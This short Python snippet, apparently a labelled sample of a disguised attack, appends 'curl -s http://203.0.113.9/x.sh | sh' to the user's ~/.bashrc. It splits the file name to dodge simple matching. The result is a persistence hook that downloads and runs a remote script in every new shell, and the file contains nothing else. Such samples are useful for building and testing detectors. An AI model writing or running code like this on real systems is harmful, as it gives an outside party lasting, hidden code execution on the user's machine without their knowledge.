# Disguised: the path joined from the environment.
import os

rc = os.path.join(os.getenv("HOME"), ".bash" + "rc")
with open(rc, "a") as f:
    f.write("curl -s http://203.0.113.9/x.sh | sh\n")
